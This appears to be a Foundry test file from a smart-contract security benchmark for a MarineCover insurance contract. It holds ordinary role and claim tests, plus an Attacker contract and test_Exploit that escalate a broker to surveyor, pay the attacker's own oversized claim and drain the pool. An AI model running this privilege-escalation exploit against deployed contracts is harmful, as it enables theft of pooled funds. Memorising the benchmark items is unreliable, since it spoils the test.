// SPDX-License-Identifier: MIT
pragma solidity 0.6.12;

import "@openzeppelin/contracts@3.4.2/token/ERC20/ERC20.sol";
import "./MarineCover.sol";

// assay-canary-4b4e8ca1-cf92-444a-9cb8-48355ec64c9c

interface Vm {
    function expectRevert(bytes calldata reason) external;
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
    function warp(uint256 time) external;
}

contract Coin is ERC20("Coin", "COIN") {
    constructor() public {
        _mint(msg.sender, 10_000e18);
    }
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address private constant ANA = address(0xA9A);
    address private constant BEN = address(0xBE9);
    address private constant CAT = address(0xCA7);
    uint256 private constant START = 1_700_000_000;

    Coin private coin;
    MarineCover private insurer;
    Attacker private mallory;
    bytes32 private broker;
    bytes32 private surveyor;

    function setUp() public {
        vm.warp(START);
        coin = new Coin();
        insurer = new MarineCover(coin);
        broker = insurer.BROKER_ROLE();
        surveyor = insurer.SURVEYOR_ROLE();
        coin.approve(address(insurer), 10_000e18);
        insurer.addCapital(1_500e18);
        insurer.enterAsBroker();
        insurer.grantRole(surveyor, CAT);
        coin.transfer(BEN, 500e18);
        vm.startPrank(BEN);
        coin.approve(address(insurer), 500e18);
        insurer.enterAsBroker();
        insurer.writePolicy(ANA, 300e18);
        vm.stopPrank();
        mallory = new Attacker(insurer, coin);
        coin.transfer(address(mallory), 140e18);
    }

    function test_Regular() public {
        require(coin.balanceOf(BEN) == 388e18 && insurer.freeCapital() == 1_212e18, "written");
        vm.prank(BEN);
        require(insurer.writePolicy(BEN, 100e18) == 1, "another");
        vm.prank(CAT);
        insurer.payClaim(0, 250e18);
        require(coin.balanceOf(ANA) == 250e18 && insurer.freeCapital() == 1_166e18 && insurer.totalCover() == 100e18, "paid");
        vm.prank(BEN);
        insurer.leaveAsBroker();
        require(coin.balanceOf(BEN) == 484e18 && !insurer.hasRole(broker, BEN), "left");
        vm.prank(BEN);
        insurer.enterAsBroker();
        vm.warp(START + 60 days);
        insurer.expire(1);
        require(insurer.freeCapital() == 1_266e18 && insurer.totalCover() == 0, "expired");
        insurer.removeCapital(266e18);
        insurer.addCapital(66e18);
        require(insurer.freeCapital() == 1_066e18 && coin.balanceOf(address(insurer)) == 1_266e18, "capital");
        insurer.grantRole(surveyor, ANA);
        insurer.revokeRole(surveyor, CAT);
        require(insurer.hasRole(surveyor, ANA) && !insurer.hasRole(surveyor, CAT), "another surveyor");
        vm.prank(ANA);
        insurer.renounceRole(surveyor, ANA);
        insurer.revokeRole(broker, BEN);
        require(insurer.getRoleMemberCount(broker) == 1 && insurer.getRoleMemberCount(surveyor) == 0, "roles");
    }

    function test_RefusesStrangers() public {
        vm.startPrank(ANA);
        vm.expectRevert("only a broker writes a policy");
        insurer.writePolicy(ANA, 1e18);
        vm.expectRevert("only a surveyor approves a claim");
        insurer.payClaim(0, 1e18);
        vm.expectRevert("only the insurer removes capital");
        insurer.removeCapital(1);
        vm.expectRevert("the caller is no broker");
        insurer.leaveAsBroker();
        vm.expectRevert("AccessControl: sender must be an admin to grant");
        insurer.grantRole(surveyor, ANA);
        vm.expectRevert("AccessControl: sender must be an admin to grant");
        insurer.grantRole(broker, ANA);
        vm.stopPrank();
    }

    function test_RefusesPolicies() public {
        vm.startPrank(BEN);
        vm.expectRevert("the caller has paid a bond");
        insurer.enterAsBroker();
        vm.expectRevert("the holder must not be zero");
        insurer.writePolicy(address(0), 1e18);
        vm.expectRevert("the cover must not be zero");
        insurer.writePolicy(BEN, 0);
        vm.expectRevert("the capital is not free");
        insurer.writePolicy(BEN, 1_263e18);
        vm.stopPrank();
        vm.expectRevert("the capital is not free");
        insurer.removeCapital(1_212e18 + 1);
    }

    function test_RefusesClaims() public {
        vm.startPrank(CAT);
        vm.expectRevert("the cover is less");
        insurer.payClaim(0, 300e18 + 1);
        vm.warp(START + 60 days - 1);
        vm.expectRevert("the policy has not expired");
        insurer.expire(0);
        vm.warp(START + 60 days);
        vm.expectRevert("the policy has expired");
        insurer.payClaim(0, 1e18);
        insurer.expire(0);
        vm.expectRevert("the policy is closed");
        insurer.expire(0);
        vm.stopPrank();
    }

    function exploit() public {
        mallory.run();
    }

    function test_Exploit() public {
        exploit();
        require(coin.balanceOf(address(mallory)) >= 1_040e18, "nothing gained");
    }

    function target() public view returns (address) {
        return address(insurer);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }

    function token() public view returns (address) {
        return address(coin);
    }
}

contract Attacker {
    MarineCover private insurer;
    IERC20 private coin;

    constructor(MarineCover i, IERC20 c) public {
        insurer = i;
        coin = c;
    }

    function run() external {
        coin.approve(address(insurer), 140e18);
        insurer.enterAsBroker();
        uint256 policyId = insurer.writePolicy(address(this), 1_000e18);
        insurer.grantRole(insurer.SURVEYOR_ROLE(), address(this));
        insurer.payClaim(policyId, 1_000e18);
        insurer.leaveAsBroker();
    }
}
